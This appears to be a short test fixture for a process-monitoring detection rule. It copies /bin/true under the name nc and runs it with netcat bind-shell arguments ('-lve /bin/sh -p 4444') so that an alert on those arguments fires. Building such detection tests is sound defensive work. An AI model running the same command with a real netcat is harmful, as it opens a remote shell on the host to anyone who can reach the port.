# SPDX-License-Identifier: Apache-2.0
# technique: The option of a relay hides among others (-lve)
# alert: Relay with a program
# field: proc.args=-lve *
cp /bin/true nc
./nc -lve /bin/sh -p 4444
